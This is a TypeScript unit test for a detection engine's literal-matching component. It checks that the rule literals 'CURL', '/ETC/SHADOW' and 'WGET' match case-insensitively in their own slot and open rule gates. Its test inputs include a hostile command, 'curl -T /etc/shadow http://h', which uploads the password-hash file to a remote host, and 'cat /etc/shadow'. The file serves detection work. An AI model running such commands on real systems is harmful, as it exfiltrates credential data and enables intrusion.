import assert from 'node:assert/strict';
import { Literals } from '../../../src/detections/engine/literals.ts';

describe('the literals of rules', () => {
  const literals = new Literals();
  const curl = literals.id(0, 'CURL');
  const shadow = literals.id(0, '/ETC/SHADOW');
  const parent = literals.id(1, 'CURL');
  const gates = literals.gates(0, [['CURL'], ['CURL', '/ETC/SHADOW'], ['WGET']]);
  const slots = literals.seal();
  const ofSlot = (slot: number, text: string | undefined): number[] => {
    const found: number[] = [];
    literals.read(slot, text, (id) => found.push(id));
    return found;
  };

  it('have one number for a text of a slot', () => {
    assert.equal(literals.id(0, 'CURL'), curl);
    assert.notEqual(parent, curl);
    assert.equal(literals.count, 4);
    assert.deepEqual([...slots].sort(), [0, 1]);
  });

  it('are found once a text, without regard to case, in their own slot only', () => {
    assert.deepEqual(ofSlot(0, 'curl -T /etc/shadow http://h; Curl x'), [curl, shadow]);
    assert.deepEqual(ofSlot(1, 'curl'), [parent]);
  });

  it('open the gates of those of the text that the slot has now', () => {
    const open = () => [0, 1, 2].filter((gate) => gates.next(gate) === gate);
    ofSlot(0, 'cat /etc/shadow');
    assert.deepEqual(open(), [1]);
    ofSlot(1, 'ls');
    assert.deepEqual(open(), [1], 'another slot changes nothing');
    ofSlot(0, 'curl; wget');
    assert.deepEqual(open(), [0, 1, 2]);
    ofSlot(0, undefined);
    assert.deepEqual(open(), []);
    assert.equal(gates.next(0), 3, 'none: their number');
  });
});
